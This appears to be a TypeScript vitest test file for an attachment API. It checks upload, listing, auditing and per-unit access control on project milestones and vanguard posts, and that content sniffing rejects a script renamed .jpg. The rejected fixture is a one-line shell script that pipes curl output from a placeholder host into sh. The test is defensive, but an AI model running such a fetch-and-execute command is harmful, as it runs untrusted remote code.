import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, count, eq } from 'drizzle-orm';
import { attachments, auditLog } from '../../src/db/schema/index.js';
import { build, type Client, type TestContext } from '../helpers/build.js';
import { demoTargets } from '../helpers/targets.js';

/** Evidence files on 书记项目 milestones and 先锋岗: uploaded and listed in scope, refused out of scope and by content. */
let ctx: TestContext;
let jijiu: Client;
let yanke: Client;
let targets: Awaited<ReturnType<typeof demoTargets>>;

/** A 1×1 PNG and a minimal PDF, written out by hand (not produced by the code under test). */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://x | sh\n');

beforeAll(async () => {
  ctx = await build();
  [jijiu, yanke] = [await ctx.as('jijiu'), await ctx.as('yanke')];
  targets = await demoTargets(ctx.db);
}, 120_000);
afterAll(() => ctx.close());

const upload = (client: Client, path: string, body: Buffer, name: string, type = 'image/jpeg') =>
  client({ method: 'POST', url: `/api/${path}/attachments`, payload: body, headers: { 'content-type': type, 'x-file-name': encodeURIComponent(name) } });
const rows = async () => (await ctx.db.select({ n: count() }).from(attachments))[0]!.n;

describe.each([
  ['a 书记项目 milestone', 'milestones', 'milestone', () => targets.milestone],
  ['a 先锋岗', 'vanguard-posts', 'vanguard_post', () => targets.post],
] as const)('attachments on %s', (_label, base, recordType, ids) => {
  it('the branch secretary uploads a file; it is listed with the record, audited and downloadable in scope only', async () => {
    const [own] = ids();
    const res = await upload(jijiu, `${base}/${own}`, PNG, '现场照片.png', 'image/png');
    expect(res.statusCode).toBe(201);
    const a = res.json();
    expect(a).toMatchObject({ originalName: '现场照片.png', mime: 'image/png', size: PNG.length, uploadedBy: 'jijiu' });
    const stored = (await ctx.db.select().from(attachments).where(eq(attachments.id, a.id)))[0]!;
    expect([stored.recordType, stored.recordId]).toEqual([recordType, own]);
    expect((await jijiu(`/api/${base}/${own}/attachments`)).json()).toEqual([a]);
    const audit = (await ctx.db.select().from(auditLog).where(and(eq(auditLog.entityType, 'attachment'), eq(auditLog.entityId, String(a.id)))));
    expect(audit.map((e) => [e.username, e.action])).toEqual([['jijiu', 'create']]);

    const dl = await jijiu(`/api/attachments/${a.id}`);
    expect(dl.statusCode).toBe(200);
    expect(dl.headers['content-disposition']).toMatch(/^attachment;/);
    expect(dl.rawPayload.equals(PNG)).toBe(true);
    // Another unit's secretary: no download, no list, no upload.
    expect((await yanke(`/api/attachments/${a.id}`)).statusCode).toBe(403);
    expect((await yanke(`/api/${base}/${own}/attachments`)).statusCode).toBe(403);
    const before = await rows();
    expect((await upload(yanke, `${base}/${own}`, PDF, 'x.pdf', 'application/pdf')).statusCode).toBe(403);
    expect(await rows()).toBe(before);
  });

  it('the other unit uploads to its own record, and jijiu may not read that file', async () => {
    const [, foreign] = ids();
    const res = await upload(yanke, `${base}/${foreign}`, PDF, '总结.pdf', 'application/octet-stream');
    expect(res.statusCode).toBe(201);
    expect(res.json().mime).toBe('application/pdf');
    expect((await jijiu(`/api/attachments/${res.json().id}`)).statusCode).toBe(403);
  });

  it('refuses a script renamed .jpg and stores nothing', async () => {
    const [own] = ids();
    const before = await rows();
    const res = await upload(jijiu, `${base}/${own}`, SCRIPT, 'photo.jpg');
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toContain('按文件内容识别');
    expect(res.json().error.details).toEqual([{ field: 'file', message: '文件类型不支持' }]);
    expect(await rows()).toBe(before);
  });

  it('is 404 for a record that does not exist', async () => {
    expect((await upload(jijiu, `${base}/999999`, PNG, 'a.png', 'image/png')).statusCode).toBe(404);
  });
});
